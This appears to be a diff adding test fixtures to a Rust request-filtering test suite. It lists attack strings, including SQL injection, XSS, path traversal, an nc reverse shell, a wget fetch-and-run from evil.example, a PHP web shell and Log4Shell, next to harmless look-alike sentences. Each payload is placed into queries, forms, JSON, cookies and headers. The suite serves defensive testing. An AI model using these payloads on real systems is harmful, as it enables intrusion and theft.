@@ -175,3 +175,112 @@ pub const MORE: &[Case] = &[
     Case { name: "benign: OPTIONS", method: "OPTIONS", target: "/api/items", body: None, headers: &[] },
     Case { name: "benign: HEAD", method: "HEAD", target: "/index.html", body: None, headers: &[] },
 ];
+
+/// Strings placed in each part of a request by [`placed`]: attacks of every family and
+/// ordinary text that shares their words and punctuation.
+pub const PAYLOADS: &[&str] = &[
+    "1' OR '1'='1",
+    "1 UNION ALL SELECT NULL,NULL,concat(user(),0x3a,version())--",
+    "admin'/*",
+    "1; WAITFOR DELAY '0:0:5'--",
+    "' AND extractvalue(1,concat(0x7e,(SELECT database())))--",
+    "<script>alert(String.fromCharCode(88,83,83))</script>",
+    "\"><img src=x onerror=prompt(1)>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "../../../../../../etc/passwd",
+    "....//....//etc/hosts",
+    "C:\\Windows\\System32\\drivers\\etc\\hosts",
+    "http://203.0.113.9/evil.txt?",
+    "; cat /etc/shadow",
+    "| nc -e /bin/sh 203.0.113.9 4444",
+    "$(wget -qO- http://evil.example/s.sh)",
+    "<?php passthru($_GET['c']); ?>",
+    "phpinfo()",
+    "${jndi:ldap://evil.example/a}",
+    "java.lang.Runtime.getRuntime().exec('id')",
+    "{{7*7}}${7*7}<%= 7*7 %>",
+    "() { :; }; /bin/bash -c id",
+    "Tom and Jerry or the cat's -- best friend",
+    "Let's meet at 5 - or 6, if that's OK?",
+    "SELECT your seat and ORDER the meal online",
+    "Please drop by the union hall on Friday",
+    "The script of the play is on the table",
+    "R&D costs: 10% (approx.) + tax",
+    "email me: jane.o'neil@example.com",
+    "C++ and C# are both languages",
+    "It's 5 o'clock -- time for tea & biscuits",
+    "path/to/my document (final).pdf",
+    "I <3 this product! 5/5 stars :)",
+    "Where is 1st Street? Is it near the station?",
+];
+
+/// A request made from a payload and a place in the request.
+pub struct Placed {
+    pub name: String,
+    target: String,
+    body: Option<(&'static str, String)>,
+    header: Option<(&'static str, String)>,
+}
+
+fn url_encode(s: &str) -> String {
+    s.bytes()
+        .map(|b| match b {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => (b as char).to_string(),
+            _ => format!("%{b:02X}"),
+        })
+        .collect()
+}
+
+/// Every payload in each place: a query argument, a form field, a JSON string, a cookie,
+/// a header.
+pub fn placed() -> Vec<Placed> {
+    let mut out = Vec::new();
+    for (i, p) in PAYLOADS.iter().enumerate() {
+        let enc = url_encode(p);
+        let json = serde_json::json!({ "v": p }).to_string();
+        let name = |place: &str| format!("payload {i} in {place}: {p}");
+        out.push(Placed { name: name("the query"), target: format!("/p?v={enc}"), body: None, header: None });
+        out.push(Placed {
+            name: name("a form"),
+            target: "/p".into(),
+            body: Some((FORM, format!("v={enc}"))),
+            header: None,
+        });
+        out.push(Placed { name: name("JSON"), target: "/p".into(), body: Some((JSON, json)), header: None });
+        out.push(Placed {
+            name: name("a cookie"),
+            target: "/p".into(),
+            body: None,
+            header: Some(("cookie", format!("v={enc}"))),
+        });
+        out.push(Placed {
+            name: name("a header"),
+            target: "/p".into(),
+            body: None,
+            header: Some(("x-note", p.to_string())),
+        });
+    }
+    out
+}
+
+impl Placed {
+    pub fn request(&self, base: &str, host: &str) -> http::Request<Full<Bytes>> {
+        let mut b = http::Request::builder()
+            .method(if self.body.is_some() { "POST" } else { "GET" })
+            .uri(format!("{base}{}", self.target))
+            .header("host", host)
+            .header("accept", "text/html,application/json;q=0.9,*/*;q=0.8")
+            .header("accept-language", "en-GB,en;q=0.8")
+            .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120 Safari/537.36");
+        if let Some((name, value)) = &self.header {
+            b = b.header(*name, value.as_str());
+        }
+        match &self.body {
+            Some((content_type, body)) => {
+                b.header("content-type", *content_type).body(Full::new(Bytes::from(body.clone()))).unwrap()
+            }
+            None => b.body(Full::default()).unwrap(),
+        }
+    }
+}
